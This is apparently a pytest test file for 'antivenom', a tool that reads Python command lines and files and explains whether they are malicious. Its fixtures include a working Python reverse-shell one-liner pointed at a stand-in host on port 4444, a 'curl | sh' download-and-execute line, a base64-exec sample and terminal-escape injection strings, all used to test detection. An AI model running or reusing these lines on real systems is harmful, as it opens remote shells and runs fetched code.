"""`antivenom explain` and the door's `explain`: what is said of a program, to people and to programs."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

import antivenom
from antivenom.cli import explain as cli
from antivenom.cli import main
from antivenom.findings import Evidence, Finding, Process
from antivenom.pycode.rules import RULES
from antivenom.report import csvout, explained, terminal
from antivenom.tables import Origin

CODE = "import os,pty,socket;s=socket.create_connection(('192.0.2.9',4444));[os.dup2(s.fileno(),n) for n in (0,1,2)];"
SHELL = f"{CODE}pty.spawn('/bin/sh')"
LINE = f'python3 -c "{SHELL}"'


def run(*words: str, code: int = 0, given: bytes = b"") -> str:
    """What antivenom prints; the exit code must be `code`."""
    streams = [io.TextIOWrapper(io.BytesIO(), encoding="utf-8", write_through=True) for _ in range(2)]
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("COLUMNS", "140")
        patch.setattr(sys, "argv", ["antivenom", *words])
        patch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(given)))
        patch.setattr(sys, "stdout", streams[0])
        patch.setattr(sys, "stderr", streams[1])
        try:
            main()
            left = 0
        except SystemExit as stop:
            left = int(stop.code or 0)
    out, err = (stream.buffer.getvalue().decode() for stream in streams)  # type: ignore[attr-defined]
    assert left == code, err
    return out if code != 2 else err


def document(*words: str, **more: Any) -> dict[str, Any]:
    made: dict[str, Any] = json.loads(run(*words, "--json", **more))
    return made


# The door


def test_the_door_explains_a_line_and_an_argument_list() -> None:
    for command in (LINE, ["python3", "-c", SHELL]):
        program = antivenom.explain(command)
        assert isinstance(program, antivenom.Program)
        assert program.verdict == "malicious"
        assert "reverse_shell" in program.behaviours


def test_the_door_passes_on_what_is_known_of_the_process() -> None:
    renamed = antivenom.explain("upd.exe tool.py", platform="windows", original_name="python.exe")
    assert [part.target for part in renamed.parts] == ["tool.py"]
    assert not antivenom.explain("upd.exe tool", platform="windows").parts
    assert antivenom.explain("python3", parent="echo 'print(1)' | python3").layers


def test_the_door_imports_pycode_only_when_it_is_asked() -> None:
    program = "import sys, antivenom; print([m for m in sys.modules if m.startswith('antivenom.py') or m == 'pyarrow'])"
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


# The page


def test_the_page_says_what_it_does_and_shows_where() -> None:
    page = run("explain", LINE)
    lines = page.splitlines()
    assert lines[0].startswith("malicious, score ")
    assert "192.0.2.9:4444" in lines[1]
    for part in ("reverse_shell", "T1059.006", "layer 0, 1:", "layer 0: -c", "indicators", "fingerprint "):
        assert part in page
    assert "  ip" in page
    assert "192.0.2.9" in page


def test_layers_show_how_they_were_hidden() -> None:
    page = run("explain", """python3 -c "import base64;exec(base64.b64decode('cHJpbnQoMSk='))" """)
    assert "layer 1: exec in layer 0, decoded by base64" in page
    assert "print(1)" in page


def test_a_line_without_python_says_so() -> None:
    assert "No Python is started here." in run("explain", "ls -l")


HOSTILE = "\x1b[2J\x1b]0;t\x07[bold]x[/bold]\u202egnp\u200b\x9b31m\u2028"


@pytest.mark.parametrize(
    "words",
    [
        ("explain", f"python3 -c \"import os;os.system('{HOSTILE}')\""),
        ("explain", f'python3 -c "x=1 {HOSTILE}"'),
        ("explain", f"python3 {HOSTILE}.py"),
        ("explain", f'{HOSTILE} -c "import os"', "--parent", HOSTILE),
        ("explain", "--argv-json", json.dumps(["python3", "-c", f"open('/etc/{HOSTILE}').read()\n{HOSTILE}"])),
    ],
)
def test_nothing_of_a_program_drives_the_terminal(words: tuple[str, ...]) -> None:
    page = run(*words)
    assert all(char.isprintable() or char == "\n" for char in page)
    assert json.loads(run(*words, "--json"))


def test_markup_is_shown_as_it_stands() -> None:
    assert "[bold]x[/bold]" in run("explain", "python3 -c \"import os;os.system('echo [bold]x[/bold]')\"")


def test_long_programs_are_cut_and_say_so() -> None:
    code = "\n".join(f"print({n})" for n in range(1_000))
    page = run("explain", "--argv-json", json.dumps(["python3", "-c", code]))
    assert "characters in 1,000 lines (--json has all)" in page
    assert len(page.splitlines()) < 60
    long = run("explain", "--argv-json", json.dumps(["python3", "-c", f"x='{'A' * 50_000}'"]))
    assert len(long) < 5_000
    assert "50,004 characters" in long


# Input


def test_files_are_read_and_not_run(tmp_path: Path) -> None:
    one, two, mark = tmp_path / "one.py", tmp_path / "two\x1b.py", tmp_path / "mark"
    one.write_text(f"open({str(mark)!r}, 'w').write('x')\n{SHELL}\n")
    two.write_text("print(1)\n")
    page = run("explain", "--file", str(one), "--file", str(two))
    assert "malicious" in page
    assert "benign" in page
    assert "two\\x1b.py" in page
    assert not mark.exists()
    many = json.loads(run("explain", "--file", str(one), "--file", str(two), "--json"))
    assert [entry["verdict"] for entry in many] == ["malicious", "benign"]
    assert many[0]["file"] == str(one)
    assert document("explain", "--file", str(two))["verdict"] == "benign"


def test_standard_input_is_a_program() -> None:
    assert document("explain", "--stdin", given=SHELL.encode())["verdict"] == "malicious"
    assert document("explain", "--stdin", given=b"\xff\xfe\x00")["verdict"] == "benign"


def test_what_is_too_long_is_cut_and_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(cli, "MOST_BYTES", 1 << 20)
    made = document("explain", "--stdin", given=b"print(1)\n#" + b"x" * (1 << 20))
    assert made["notes"][0] == "only the first 1 MB were read"


@pytest.mark.parametrize(
    "words, message",
    [
        (("explain",), "give one thing to explain"),
        (("explain", "ls", "--stdin"), "give one thing to explain"),
        (("explain", "--argv-json", "{"), "is no JSON"),
        (("explain", "--argv-json", "[" * 100_000), "is no JSON"),
        (("explain", "--argv-json", "[1]"), "is no list of texts"),
        (("explain", "--argv-json", "[]"), "is no list of texts"),
        (("explain", "--file", "nowhere.py"), "does not exist"),
        (("explain", "--stdin", "--platform", "linux"), "belong to a command line"),
        (("explain", "ls", "--platform", "dos"), "is not one of"),
        (("explain", "ls", "--fail-at", "benign"), "is not one of"),
        (("explain", "--rules", "reverse_shel"), "did you mean 'reverse_shell'?"),
    ],
)
def test_mistakes_are_explained_and_exit_with_2(words: tuple[str, ...], message: str) -> None:
    assert message in run(*words, code=2)


@pytest.mark.parametrize("verdict, code", [("notable", 1), ("suspicious", 1), ("malicious", 1)])
def test_a_verdict_can_fail_a_pipeline(verdict: str, code: int) -> None:
    run("explain", LINE, "--fail-at", verdict, code=code)
    run("explain", "python3 -c 'print(1)'", "--fail-at", verdict)


# Rules


def test_every_behaviour_is_listed_and_has_a_page() -> None:
    listed = run("explain", "--rules")
    for id, rule in RULES.items():
        assert id in listed
        page = run("explain", "--rules", id)
        assert rule.title in page
        assert all(reference in page for reference in rule.references)
    assert {rule["id"] for rule in json.loads(run("explain", "--rules", "--json"))} == set(RULES)
    assert document("explain", "--rules", "reverse_shell")["attack"]


# Findings with a program


def finding(command: str, *, host: str = "web-01", time: int = 0, line: int = 3) -> Finding:
    program = antivenom.explain(command)
    origin = Origin("a.log", None, line)
    evidence = Evidence(
        "python-code", "P", "high", "high", program.attack, program.behaviours, program.score, (origin,)
    )
    process = Process("python3", "/usr/bin/python3", 7, None, command, "dev")
    return Finding(time, host, process, Process(), (evidence,), (origin,), "auditd", program)


def shown(*found: Finding) -> str:
    screen = terminal.console()
    screen.width = 200
    with screen.capture() as text:
        screen.print(terminal.findings(found))
    return text.get()


def test_findings_of_one_shape_are_one_row_in_the_terminal_and_each_its_own_elsewhere() -> None:
    other = LINE.replace("192.0.2.9", "198.51.100.7")
    found = [finding(LINE, time=10**9), finding(other, host="web-02", time=3 * 10**9, line=8)]
    assert found[0].fingerprint == found[1].fingerprint
    page = shown(*found)
    assert "2 times on 2 hosts" in page
    assert "1970-01-01 00:00:01.000 .." in page
    assert "00:00:03.000" in page
    assert page.count("malicious") == 1
    assert csvout.findings(found).count("\n") == 3
    assert terminal.grouped(found) == [found]


def test_findings_without_code_stay_apart() -> None:
    found = [finding("python3 a.py"), finding("python3 b.py")]
    assert [len(group) for group in terminal.grouped(found)] == [1, 1]


def test_a_finding_shows_verdict_summary_and_behaviours_safely() -> None:
    page = shown(finding(f"python3 -c \"import os;os.system('curl http://192.0.2.9/{HOSTILE} | sh')\""))
    assert "malicious" in page
    assert "download_execute" in page
    assert all(char.isprintable() or char == "\n" for char in page)


def test_csv_and_json_of_a_finding_name_its_program() -> None:
    made = finding(LINE)
    header, row = csvout.findings([made]).splitlines()[:2]
    assert header.split(",")[4:7] == ["verdict", "behaviours", "fingerprint"]
    assert made.fingerprint in row
    assert made.as_dict()["behaviours"] == list(made.behaviours)


def test_a_layer_in_a_document_is_bounded() -> None:
    made = finding(f"python3 -c \"import os;os.system('id');x='{'A' * 100_000}'\"").as_dict()["program"]
    assert isinstance(made, dict)
    (layer,) = made["layers"]
    assert len(layer["text"]) == 65_536
    assert layer["characters"] > 100_000


def test_a_finding_without_a_reading_has_none() -> None:
    bare = Finding(0, "h", Process(), Process(), (), (), "auditd")
    assert (bare.verdict, bare.behaviours, bare.indicators, bare.layers, bare.fingerprint) == (None, (), (), (), "")
    assert bare.as_dict()["program"] is None


def test_the_page_of_a_program_is_the_same_for_a_file() -> None:
    program = antivenom.explain(LINE)
    titled = [str(part) for part in explained.page(program, "a\x1b.py")]
    assert titled[0] == "a\\x1b.py"
